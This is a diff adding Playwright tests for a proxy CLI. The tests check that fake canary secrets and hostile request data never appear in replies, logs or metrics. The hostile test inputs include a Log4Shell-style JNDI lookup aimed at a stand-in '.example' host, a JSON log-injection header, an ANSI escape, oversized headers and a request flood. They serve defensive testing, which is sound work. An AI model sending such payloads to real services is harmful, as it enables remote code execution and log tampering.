@@ -1,0 +1,248 @@
+/** What the standalone proxy shows of its secrets and of hostile requests: nothing, in any reply, log line or figure. */
+import { type ChildProcess, spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createServer, request, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from '@playwright/test';
+import { bePatient, expect } from './fixtures/patience.js';
+
+const API_KEY = 'test_CANARYkey7Gq1x';
+const ADMIN_TOKEN = 'CANARYadmin-token-of-thirty-two-characters';
+const SIGNING_SECRET = 'CANARYsigning-secret-of-thirty-two-characters';
+const SECRETS = ['CANARY', btoa(`${API_KEY}:`), btoa(API_KEY)];
+/** Stands in everything hostile, and may come back nowhere. */
+const MARK = 'q7ZxMark';
+const PAGE = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
+
+const idOf = (number: number): string => `018f5a5e-7a00-7000-8000-${String(number).padStart(12, '0')}`;
+const body = (...numbers: number[]): string =>
+  JSON.stringify({
+    v: 1,
+    sent_at: Date.now(),
+    events: numbers.map((number) => ({
+      id: idOf(number),
+      type: 'viewed',
+      personalized_offer_id: `${MARK}-${number}`,
+      occurred_at: Date.now(),
+    })),
+  });
+
+interface Program {
+  readonly child: ChildProcess;
+  /** Everything that it wrote so far. */
+  text(): string;
+  ended(): Promise<number | null>;
+}
+
+const run = (folder: string, args: readonly string[], env: Record<string, string> = {}): Program => {
+  const child = spawn(process.execPath, [join(process.cwd(), 'dist/proxy/cli.js'), ...args], {
+    cwd: folder,
+    env: { PATH: process.env.PATH ?? '', ...env },
+  });
+  let text = '';
+  for (const stream of [child.stdout, child.stderr])
+    stream.setEncoding('utf8').on('data', (chunk: string) => {
+      text += chunk;
+    });
+  const closing = once(child, 'close');
+  return {
+    child,
+    text: () => text,
+    async ended() {
+      const [code] = (await closing) as [number | null];
+      return code;
+    },
+  };
+};
+
+let folder: string;
+let upstream: Server;
+let baseUrl: string;
+/** What the upstream says of every call; it shows whatever it was given. */
+let status = 204;
+
+// biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern's names.
+test.beforeEach(async ({}, testInfo) => {
+  bePatient(testInfo, 120_000);
+  folder = await mkdtemp(join(tmpdir(), 'offersight-'));
+  status = 204;
+  upstream = createServer((incoming, outgoing) => {
+    const shown = JSON.stringify({
+      message: incoming.headers,
+      api_error_code: incoming.headers.authorization,
+    });
+    incoming.resume().on('end', () => outgoing.writeHead(status).end(status === 204 ? '' : shown));
+  });
+  upstream.listen(0, '127.0.0.1');
+  await once(upstream, 'listening');
+  baseUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
+});
+
+test.afterEach(async () => {
+  upstream.close();
+  upstream.closeAllConnections();
+  await once(upstream, 'close');
+  await rm(folder, { recursive: true });
+});
+
+/** Starts the proxy; gives its address. */
+const startProxy = async (args: readonly string[] = []): Promise<Program & { readonly url: string }> => {
+  const program = run(
+    folder,
+    ['proxy', '--site', 'acme-test', '--port', '0', '--base-url', baseUrl, ...args],
+    {
+      OFFERSIGHT_API_KEY: API_KEY,
+      OFFERSIGHT_ADMIN_TOKEN: ADMIN_TOKEN,
+      OFFERSIGHT_SIGNING_SECRET: SIGNING_SECRET,
+    },
+  );
+  await expect.poll(() => program.text()).toContain('"listening"');
+  const url = /"url":"([^"]+)"/.exec(program.text())?.[1];
+  if (!url) throw new Error(program.text());
+  return { ...program, url };
+};
+
+/** The whole reply as text. Not by fetch, which forbids much of what an attacker may send. */
+const ask = (
+  url: string,
+  method: string,
+  headers: Record<string, string | string[]>,
+  text = '',
+): Promise<string> =>
+  new Promise((resolve) => {
+    const asking = request(url, { method, headers, agent: false }, (reply) => {
+      let said = `${reply.statusCode} ${JSON.stringify(reply.headers)}`;
+      reply.setEncoding('utf8').on('data', (chunk: string) => {
+        said += chunk;
+      });
+      reply.on('close', () => resolve(said));
+    });
+    asking.on('error', (error) => resolve(`cut: ${error.message}`));
+    asking.end(text);
+  });
+
+const HOSTILE: Readonly<Record<string, string>> = {
+  'user-agent': `${MARK}\t\${jndi:ldap://${MARK}.example/a}`,
+  referer: `https://${MARK}.example/`,
+  cookie: `session=${MARK}`,
+  'x-forwarded-for': `${MARK}, 198.51.100.7`,
+  'x-request-id': `${MARK}"}\\n{"level":"error"`,
+};
+
+test('secrets and what requests say are in no reply, log line or figure (attacks 53, 59)', async () => {
+  const { child, url, text, ended } = await startProxy();
+  const endpoint = `${url}/offer-events`;
+  const replies: string[] = [];
+  for (const [at, code] of [204, 400, 401, 403, 404, 422, 429, 500].entries()) {
+    status = code;
+    replies.push(await ask(endpoint, 'POST', { ...PAGE, ...HOSTILE }, body(at + 1, at + 100)));
+  }
+  for (const bad of ['{', `{"v":1,"${MARK}\u001b[31m":1}`, body(), body(1).replace('viewed', MARK)])
+    replies.push(await ask(endpoint, 'POST', { ...PAGE, ...HOSTILE }, bad));
+  for (const headers of [
+    {},
+    { 'sec-fetch-site': MARK },
+    { ...PAGE, 'content-type': MARK },
+    { ...PAGE, expect: MARK },
+  ])
+    replies.push(await ask(endpoint, 'POST', { ...HOSTILE, ...headers }, body(1)));
+  replies.push(await ask(endpoint, 'POST', { ...PAGE, 'user-agent': MARK.repeat(100_000) }, body(1)));
+  for (const method of ['GET', 'HEAD', 'PUT', 'TRACE', 'OPTIONS', 'DELETE']) {
+    for (const path of [
+      '/offer-events',
+      `/${MARK}`,
+      `/admin/${MARK}`,
+      '/admin/status',
+      '/metrics',
+      '/healthz',
+      '/readyz',
+    ])
+      replies.push(await ask(`${url}${path}?a=${MARK}`, method, HOSTILE));
+  }
+  for (const authorization of [
+    'Bearer ',
+    `Bearer ${MARK}`,
+    `Basic ${btoa(MARK)}`,
+    `Bearer ${ADMIN_TOKEN}x`,
+    ADMIN_TOKEN,
+  ])
+    for (const path of ['status', 'events', 'dead-letters'])
+      replies.push(await ask(`${url}/admin/${path}`, 'GET', { ...HOSTILE, authorization }));
+  replies.push(await ask(`${url}/offersight.js`, 'GET', {}), await ask(`${url}/metrics`, 'GET', {}));
+  expect(replies.filter((reply) => reply.startsWith('200 ')).length).toBeGreaterThan(8);
+  expect(replies.join('\n')).toContain('offersight_requests_total');
+
+  const listing = await ask(`${url}/admin/events`, 'GET', { authorization: `Bearer ${ADMIN_TOKEN}` });
+  expect(listing).toContain(`${MARK}-1`);
+  child.kill('SIGTERM');
+  expect(await ended()).toBe(0);
+
+  const shown = [...replies, text()];
+  for (const secret of [...SECRETS, MARK]) {
+    expect(
+      shown.filter((each) => each.includes(secret)),
+      secret,
+    ).toEqual([]);
+  }
+  expect(SECRETS.filter((secret) => listing.includes(secret))).toEqual([]);
+  const lines = text().trim().split('\n');
+  const levels = lines.map((line) => (JSON.parse(line) as { level: string }).level);
+  expect(levels.filter((level) => level !== 'info' && level !== 'error')).toEqual([]);
+  expect(text()).not.toContain(idOf(1));
+  // The check can fail: what an operator has to know is there.
+  expect(text()).toMatch(/check the key/);
+});
+
+test('asked for, ids are in the log, and nothing else of a request is (attack 59)', async () => {
+  const { child, url, text, ended } = await startProxy(['--log-ids']);
+  await ask(`${url}/offer-events`, 'POST', { ...PAGE, ...HOSTILE }, body(7));
+  await expect.poll(text).toContain(idOf(7));
+  child.kill('SIGTERM');
+  await ended();
+  expect(text().replaceAll(`${MARK}-7`, '')).not.toContain(MARK);
+});
+
+test('a flood of bad requests fills no log (attack 60)', async () => {
+  const { child, url, text, ended } = await startProxy();
+  const flood = async (): Promise<void> => {
+    for (let left = 150; left > 0; left--) await ask(`${url}/offer-events`, 'POST', PAGE, '{');
+  };
+  const startedAt = Date.now();
+  await Promise.all(Array.from({ length: 10 }, flood));
+  const seconds = Math.ceil((Date.now() - startedAt) / 1_000) + 1;
+  child.kill('SIGTERM');
+  await ended();
+  const lines = text()
+    .split('\n')
+    .filter((line) => line.includes('"request"'));
+  expect(lines.length).toBeLessThanOrEqual(20 * seconds);
+  expect(lines.length).toBeGreaterThan(0);
+});
+
+test('an operator who mistypes a secret is told so, without it (attacks 52, 53)', async () => {
+  const file = join(folder, 'key');
+  await writeFile(file, `${API_KEY} with more behind it\n`);
+  const tries: [args: string[], env: Record<string, string>][] = [
+    [['--api-key', API_KEY], {}],
+    [[`--api-key=${API_KEY}`], {}],
+    [[`--admin-token=${ADMIN_TOKEN}`], { OFFERSIGHT_API_KEY: API_KEY }],
+    [['--api-key-file', file], {}],
+    [['--api-key-file', join(folder, 'none')], {}],
+    [[], { OFFERSIGHT_API_KEY: ` ${API_KEY} ` }],
+    [[], { OFFERSIGHT_API_KEY: `https://x.example/?key=${API_KEY}` }],
+    [['--require-signed-offers'], { OFFERSIGHT_API_KEY: API_KEY, OFFERSIGHT_SIGNING_SECRET: 'CANARY' }],
+    [[], { OFFERSIGHT_API_KEY: API_KEY, OFFERSIGHT_ADMIN_TOKEN: 'CANARY' }],
+    [['--api-kee', API_KEY], {}],
+    [[API_KEY], { OFFERSIGHT_API_KEY: API_KEY }],
+  ];
+  for (const [args, env] of tries) {
+    const program = run(folder, ['proxy', '--site', 'acme-test', '--port', '0', ...args], env);
+    expect([await program.ended(), args]).toEqual([1, args]);
+    expect(program.text().length).toBeGreaterThan(20);
+    expect(program.text()).not.toContain('CANARY');
+    expect(program.text()).not.toMatch(/^\s+at /m);
+  }
+});
